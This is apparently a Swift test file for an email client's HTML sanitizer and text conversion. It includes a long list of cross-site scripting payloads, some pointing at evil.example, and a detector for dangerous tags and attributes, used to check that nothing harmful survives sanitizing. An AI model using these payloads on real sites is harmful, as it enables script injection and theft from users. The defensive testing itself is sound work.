import Testing

@testable import AjarMail

struct HTMLTests {
    @Test func `plain text keeps words in order, a line per block, and where links lead`() {
        let html = """
            <html><head><title>no</title><style>p{}</style></head><body>
            <h1>Hello&nbsp;Ann &amp; Bob</h1><p>One<br>two   three</p><div>a</div><div>b</div>
            <ul><li>x<li>y</ul><p>See <a href="https://example.com/a?b=1&amp;c=2">our page</a> or
            <a href="https://example.com">https://example.com</a></p><script>alert(1)</script>
            <table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table><span style="display: none">hidden</span>
            </body></html>
            """
        let expected = """
            Hello Ann & Bob

            One
            two three

            a
            b

            - x
            - y

            See our page (https://example.com/a?b=1&c=2) or https://example.com

            1 2
            3
            """
        #expect(PlainText.from(html: html) == expected)
    }

    @Test(arguments: [
        ("", ""), ("plain &lt; text", "plain < text"), ("a<br><br><br><br>b", "a\n\nb"),
        ("&euro;&#8364;&#x20ac;", "€€€"),
        ("<pre>a\n  b</pre>", "a\n  b"), ("Gr\u{FC}\u{DF}e \u{1F600}", "Gr\u{FC}\u{DF}e \u{1F600}"),
        ("a\u{0}b", "ab"),
        ("<ol><li>a</li><li>b</li></ol>", "1. a\n2. b"), ("<p>a", "a"), ("</div></p>x", "x"),
        ("<a href=\"mailto:a@b.c?subject=x\">Ann</a>", "Ann (a@b.c)"),
        ("<a href=\"javascript:x\">Ann</a>", "Ann"),
    ])
    func `small HTML becomes small text`(html: String, text: String) {
        #expect(PlainText.from(html: html) == text)
    }

    @Test(arguments: [
        ("a < b\nsecond line", "a &lt; b<br>second line"), ("\r\n", "<br>"), ("\r\r", "<br><br>"),
        ("&amp;", "&amp;amp;"),
    ])
    func `text becomes HTML that says the same`(text: String, html: String) {
        #expect(HTMLBody.from(text: text) == html)
    }

    @Test(arguments: [
        ("", "<body></body>"),
        ("plain & simple", "<body>plain &amp; simple</body>"),
        ("<body><p>Hi <strong>Ann</strong></p></body>", "<body><p>Hi <strong>Ann</strong></p></body>"),
        ("<div>in a <section>box</section></div>", "<body>in a box</body>"),
        ("<p>a<br/>b</p><hr>", "<body><p>a<br>b</p><hr></body>"),
        (
            "<a href=\"https://e.com/?a=1&amp;b=2\" onclick=\"x()\">l</a>",
            "<body><a href=\"https://e.com/?a=1&amp;b=2\">l</a></body>"
        ),
        (
            "<span class=\"mention x\" data-type=\"mention\" data-id=\"user_1\" data-label=\"Ann\" onclick=x style=\"color:red;position:fixed\">@Ann</span>",
            "<body><span class=\"mention\" data-type=\"mention\" data-id=\"user_1\" data-label=\"Ann\" style=\"color: red\">@Ann</span></body>"
        ),
        ("<img src=\"cid:a@b\" alt=\"x\" onerror=\"y\">", "<body><img src=\"cid:a@b\" alt=\"x\"></body>"),
        ("<ul><li>a</li></ul><h2>b</h2>", "<body><ul><li>a</li></ul><h2>b</h2></body>"),
    ])
    func `rich text keeps what the CRM can edit`(html: String, clean: String) {
        #expect(Sanitizer.richText(html) == clean)
        #expect(Sanitizer.richText(clean) == clean)
    }

    static let attacks: [String] = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>", "<img src=\"javascript:alert(1)\">", "<img/src=`x`onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#x0A;script:alert(1)\">x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:x\">x</a>", "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"x.swf\"></object>",
        "<embed src=\"x.swf\">",
        "<form action=\"https://evil.example\"><input name=a><button>b</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//evil.example>",
        "<base href=\"//evil.example/\">", "<style>@import 'https://evil.example'</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<span style=\"background:u\\72l(//evil.example)\">x</span>",
        "<span style=\"width:exp/**/ression(alert(1))\">x</span>",
        "<p style=\"position:fixed;top:0;left:0\">x</p>", "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>", "<title><img src=x onerror=alert(1)></title>",
        "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml <script>alert(1)</script> ?>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "\"><img src=x onerror=alert(1)>",
        "<img src=\"https://e.com/a.png\" alt='\"><script>alert(1)</script>'>",
        "<a href='https://e.com/\" onclick=\"alert(1)'>x</a>",
        "<p title=\"x\" onmouseover\u{0}=alert(1)>x</p>", "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>",
        "<isindex action=javascript:x>",
        "<marquee onstart=alert(1)>x</marquee>", "<frameset onload=alert(1)>", "<audio src onerror=alert(1)>",
    ]

    @Test(arguments: attacks) func `nothing that runs or fetches gets through`(html: String) {
        for clean in [Sanitizer.richText(html), Sanitizer.mail(html)] {
            #expect(Self.dangers(in: clean) == [], "\(clean)")
        }
    }

    /// Reads the result as a browser would: tags and attributes only; what is text is harmless.
    private static func dangers(in html: String) -> [String] {
        var scanner = TagScanner(Array(html.utf8))
        var found: [String] = []
        while let tag = scanner.next() {
            if [
                "script", "style", "iframe", "object", "embed", "form", "input", "svg", "math", "meta",
                "link", "base", "title",
                "template", "noscript", "textarea", "frameset", "video", "audio", "plaintext", "xmp",
            ].contains(tag.name) {
                found.append(tag.name)
            }
            for (name, value) in tag.attributes {
                let plain = value.lowercased().filter { !$0.isWhitespace }
                if name.hasPrefix("on") || plain.contains("script:") || plain.hasPrefix("data:text") {
                    found.append(name)
                }
                if name == "style", ["url(", "expression", "position", "\\"].contains(where: plain.contains) {
                    found.append(value)
                }
                if name == "src", !plain.hasPrefix("cid:"), !plain.hasPrefix("https:"),
                    !plain.hasPrefix("data:image/")
                {
                    found.append(value)
                }
            }
        }
        return found
    }

    @Test func `a received mail keeps its tables and looks, and fetches no picture`() {
        let html =
            "<table width=\"600\" style=\"border-collapse:collapse;background:url(x)\"><tr><td bgcolor=\"#fff\" "
            + "style=\"padding: 4px 8px; color: rgb(1,2,3)\"><img src=\"https://t.example/p.gif\" width=\"1\">"
            + "<img src=\"cid:logo\"><a href=\"https://e.com\">x</a></td></tr></table>"
        let clean =
            "<table width=\"600\" style=\"border-collapse: collapse\"><tr><td bgcolor=\"#fff\" "
            + "style=\"padding: 4px 8px; color: rgb(1,2,3)\"><img data-src=\"https://t.example/p.gif\" width=\"1\">"
            + "<img src=\"cid:logo\"><a href=\"https://e.com\" target=\"_blank\" rel=\"noopener noreferrer\">x</a></td></tr></table>"
        #expect(Sanitizer.mail(html) == clean)
    }

    @Test func `depth, width and length are bounded, and the result stays whole`() {
        let deep = String(repeating: "<b>", count: 100_000) + "x"
        let clean = Sanitizer.richText(deep)
        #expect(clean.utf8.count < 10_000)
        #expect(clean.hasSuffix("</body>"))
        #expect(clean.split(separator: "<b>").count >= 1)
        let wide = String(repeating: "<p>a</p>", count: 20_000)
        #expect(Sanitizer.richText(wide).hasSuffix("</p></body>"))
        #expect(
            PlainText.from(html: String(repeating: "<a href='https://e.com'>", count: 5_000)).utf8.count
                < 10_000_000)
        let entities = String(repeating: "&lt;", count: 30_000)
        #expect(PlainText.from(html: entities).utf8.count == 30_000)
    }
}
